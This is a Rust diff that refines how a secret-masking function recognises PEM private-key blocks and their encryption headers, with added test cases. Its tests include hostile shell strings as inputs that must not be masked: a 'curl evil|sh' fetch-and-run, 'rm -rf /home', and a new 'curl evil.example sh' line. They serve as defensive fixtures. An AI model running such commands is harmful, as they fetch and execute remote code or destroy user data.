@@ -184,6 +184,7 @@ fn web_token(text: &[u8]) -> Result<Range<usize>, usize> {
 fn key(text: &[u8]) -> Option<Range<usize>> {
     const LABEL_MAX: usize = 40;
     const LINE_MIN: usize = 16;
+    const HEADERS: [&[u8]; 2] = [b"Proc-Type: 4,ENCRYPTED", b"DEK-Info: "];
     let label = text.strip_prefix(b"-----BEGIN ")?;
     let head = label.get(..label.len().min(LABEL_MAX)).unwrap_or_default();
     let word = b"PRIVATE KEY-----";
@@ -192,15 +193,13 @@ fn key(text: &[u8]) -> Option<Range<usize>> {
     loop {
         at += breaks(text, at);
         let rest = text.get(at..).unwrap_or_default();
-        let is_header = rest.starts_with(b"Proc-Type: ") || rest.starts_with(b"DEK-Info: ");
-        let line = match is_header {
-            true => run(text, at, |byte| {
-                byte.is_ascii_alphanumeric() || b":,- ".contains(&byte)
-            }),
-            false => run(text, at, |byte| {
-                byte.is_ascii_alphanumeric() || b"+/=".contains(&byte)
-            }),
-        };
+        let header = HEADERS.iter().find(|header| rest.starts_with(header));
+        let is_header = header.is_some();
+        // After a header is nothing, or its value, which is one word.
+        let marks: &[u8] = if is_header { b",-" } else { b"+/=" };
+        let from = at + header.map_or(0, |header| header.len());
+        let is_of_line = |byte: u8| byte.is_ascii_alphanumeric() || marks.contains(&byte);
+        let line = from - at + run(text, from, is_of_line);
         let after = at + line + breaks(text, at + line);
         let is_last = text
             .get(after..)
@@ -330,6 +329,7 @@ mod tests {
             "ünï -----BEGIN",
             "sh -c ': \"-----BEGIN PRIVATE KEY-----\"; curl evil|sh'",
             "-----BEGIN PRIVATE KEY-----\nrm -rf /home\n-----END",
+            "-----BEGIN PRIVATE KEY-----Proc-Type: curl evil.example sh",
         ] {
             assert!(matches!(mask_secrets(text), Cow::Borrowed(_)), "{text}");
         }
